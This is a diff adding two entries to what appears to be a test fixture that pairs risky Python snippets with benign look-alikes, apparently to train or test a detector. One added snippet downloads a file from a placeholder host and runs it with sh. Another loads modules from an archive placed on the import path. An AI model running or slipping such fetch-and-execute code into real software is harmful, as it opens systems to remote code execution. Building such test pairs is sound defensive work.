@@ -225,6 +225,30 @@ PAIRS = {
         subprocess.run([os.environ.get("EDITOR", "nano"), "notes.md"])
         """,
     ),
+    "a_file_filled_from_the_network_then_run": (
+        """
+        import subprocess, urllib.request
+        urllib.request.urlretrieve("http://example.invalid/setup", "helper.bin")
+        subprocess.run(["sh", "helper.bin"])
+        """,
+        """
+        import json, urllib.request
+        urllib.request.urlretrieve("https://example.invalid/rates.json", "rates.json")
+        print(json.load(open("rates.json"))["EUR"])
+        """,
+    ),
+    "an_archive_put_on_the_import_path": (
+        """
+        import sys
+        sys.path.insert(0, "plugins.pyz")
+        import plugin_main
+        """,
+        """
+        import os, sys
+        sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+        import json
+        """,
+    ),
 }
 
 
